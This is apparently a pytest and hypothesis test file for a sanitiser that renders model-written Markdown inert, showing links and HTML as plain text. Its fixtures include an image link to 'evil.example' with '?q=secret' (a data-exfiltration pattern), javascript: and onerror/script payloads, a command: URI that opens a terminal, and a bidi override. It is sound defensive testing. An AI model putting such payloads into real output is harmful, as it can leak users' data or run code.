"""What a model wrote is shown, and nothing of it is fetched, run or opened."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from consult_lsp.report.markdown import (
    LIMIT,
    as_code,
    inert,
    is_inert,
    is_plain_prose,
    written_anew,
)
from support.patience import not_for_ever


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![a plan](https://evil.example/?q=secret)", "a plan (`https://evil.example/?q=secret`)"),
        ("[the docs](https://a.example/b)", "the docs (`https://a.example/b`)"),
        (
            "[run](command:workbench.action.terminal.new)",
            "run (`command:workbench.action.terminal.new`)",
        ),
        ("[x](javascript:alert(1))", "x (`javascript:alert(1)`)"),
        ("<https://a.example>", "`https://a.example`"),
        ("See https://a.example/b.", "See `https://a.example/b`."),
        ("See www.a.example and me@a.example.", "See `www.a.example` and `me@a.example`."),
        ("http&#58;//a.example", "`http://a.example`"),
        ("[a][b]\n\n[b]: https://c.example", "a (`https://c.example`)"),
        ("[unused]: https://c.example", ""),
        ("<img src=x onerror=y>", "\\<img src=x onerror=y>"),
        ("<script>\nalert(1)\n</script>", "\\<script>\nalert(1)\n\\</script>"),
        ("&lt;b&gt;", "\\<b>"),
        ("A\u202eB", "A\\\\u202eB"),
        ("$(alert) costs", "\\$(alert) costs"),
        ("`a`https://b.example", "`a` `https://b.example`"),
    ],
)
def test_what_would_act_is_shown_as_what_it_is(written: str, shown: str) -> None:
    assert inert(written).rstrip() == shown


def test_what_is_only_to_be_read_stays() -> None:
    text = (
        "# Title\n\nA **bold** word, `code`, `a < b` and List\\<int>.\n\n"
        "- one\n- two\n\n1. first\n2. second\n\n> quoted\n"
    )
    assert inert(text) == text


def test_fenced_code_comes_back_byte_for_byte() -> None:
    fence = "```python\nx = '<b>' # ![](https://a.example) $(x)\n\n\ty = List<int> | `z`\n```\n"
    assert inert(fence) == fence


def test_an_image_in_a_cell_that_a_table_cuts_out_of_a_code_span_is_found() -> None:
    table = "| `x | ![](https://evil.example/p) ` |\n|---|---|\n| a | b |\n"
    assert tags_beyond_text(inert(table)) == []
    assert inert(table).count("\n") == 3  # it is still a table


def test_a_table_keeps_its_cells_and_alignment() -> None:
    table = "| a | b |\n| --- | :-: |\n| `x\\|y` | [z](https://a.example) |\n"
    assert inert(table) == "| a | b |\n| --- | :-: |\n| `x\\|y` | z (`https://a.example`) |\n"


def test_only_the_first_word_of_a_fence_s_info_stays() -> None:
    assert inert("```py <b> onclick\nx\n```") == "```py\nx\n```\n"


def test_code_cannot_close_the_fence_it_is_shown_in() -> None:
    shown = as_code("a\n````\n[x](https://a.example)")
    assert is_inert(shown)


BOMBS = [
    "[", "![](", "[a](", "[](<", '[](a "', "*a ", "**a", "_a__b", "*a _b ", "`", "<a ", "&amp;",
    "\\[", "a\n", "> ", "- ", "- a\n\n", "1. a\n", "# a\n", "[x](y) ", "![x](y) ", "<http://a> ",
    "http://a ", "a@b.c ", "a@", "a+", "a.", "www.", "|a", "[a]: <", "\n[", "~", "```\n", "((",
]  # fmt: skip


@pytest.mark.parametrize("piece", [*BOMBS, pytest.param("", id="nested")])
def test_no_text_takes_long_or_fails(piece: str) -> None:
    inert("warm")
    text = piece * LIMIT if piece else "![" * 200 + "](a)" * 200 + "*a " * 900 + "a* " * 900
    with not_for_ever():
        shown = inert(text)
    assert is_inert(shown)


TAGS = "p h[1-6] em strong code pre ul ol li blockquote hr br s table thead tbody tr th td"
"""All that a page made of inert Markdown may consist of."""


def tags_beyond_text(markdown: str) -> list[str]:
    """The tags in what a renderer that allows everything makes of ``markdown``."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]  # the way to set it
    return re.findall(rf"<(?!/?(?:{TAGS.replace(' ', '|')})\b)[^>]*", renderer.render(markdown))


PIECES = (
    "[ ] ( ) ! < > * _ ` ``` | $ # - & \\ : / . @ ~ = + \n \n\n \t a b www. http:// "
    "https://e.example command:x <img> <b> </b> &#10; &#58; ![](https://e.example) [a](b) [a]: "
    "[a] | |-| \u202e mailto: x@y.z <!-- --> <?x ?> ~~~ 1. - >"
)
FRAGMENTS = st.sampled_from([*PIECES.split(" "), " "])


@settings(max_examples=400)
@given(st.lists(FRAGMENTS | st.text(max_size=4), max_size=30).map("".join))
def test_whatever_is_written_is_inert_when_shown(text: str) -> None:
    shown = inert(text)
    assert tags_beyond_text(shown) == []
    assert tags_beyond_text(inert(shown)) == []


WORDS = (
    'a An order.total f(x, it\'s "q" x_1 _a a_ 0.1 1. 12) – 50% … a/b ? · @app a=b {k: + - === '
    "--- | |-| `a|b` `*x*` `\\` `[y](z)` `<b>` `a` (`b`) ` `` * **b** [a] <b> &amp; $(a) ~~a~~ ! "
    "# > data: command:x a@b.c www.a \u202e é `é`"
)
LINES = st.lists(st.sampled_from(WORDS.split()), min_size=1, max_size=6).map(" ".join)
PARAGRAPHS = st.lists(LINES, min_size=1, max_size=3).map("\n".join) | LINES.map("**{}**".format)
ITEMS = st.tuples(
    st.sampled_from(["- ", "- **x** ", "- **y y**", "* ", "  - "]), LINES | st.just("")
)
LISTS = st.lists(ITEMS.map("".join), min_size=1, max_size=3).map("\n".join)
BLOCKS = st.lists(PARAGRAPHS | LISTS | st.just(""), max_size=4)


@settings(max_examples=400)
@given(BLOCKS.map("\n\n".join))
def test_what_needs_no_parser_is_what_a_parser_would_write(text: str) -> None:
    assert inert(text) == written_anew(text)
    assert inert(text, unwrapped=True) == written_anew(text, unwrapped=True)


@pytest.mark.parametrize(
    "text",
    [
        "**YAML from outside can run code here**\n\nbackend-developer · error · `unsafe-yaml-load`",
        "0.1 + 0.2 is not 0.3, and every sum adds\nits share. Use Decimal (decimal.js).",
        "**Fixes**\n\n- **Load plain types only** (changes files)\n- **Give up**",
        '- `payments.py:12` the key is read here: `KEY = {"a": [*b]}`',
    ],
)
def test_plain_prose_needs_no_parser(text: str) -> None:
    assert is_plain_prose(text)


@pytest.mark.parametrize("tildes", ["\\~~~~", "\x0b~~~~", "~\\~~~ x", "a\n\x0b~~~~"])
def test_tildes_that_are_text_open_no_fence(tildes: str) -> None:
    written = inert(f"{tildes}\n\nwords\n")
    assert "`~~~~`" in written
    assert "fence" not in [token.type for token in MarkdownIt("commonmark").parse(written)]
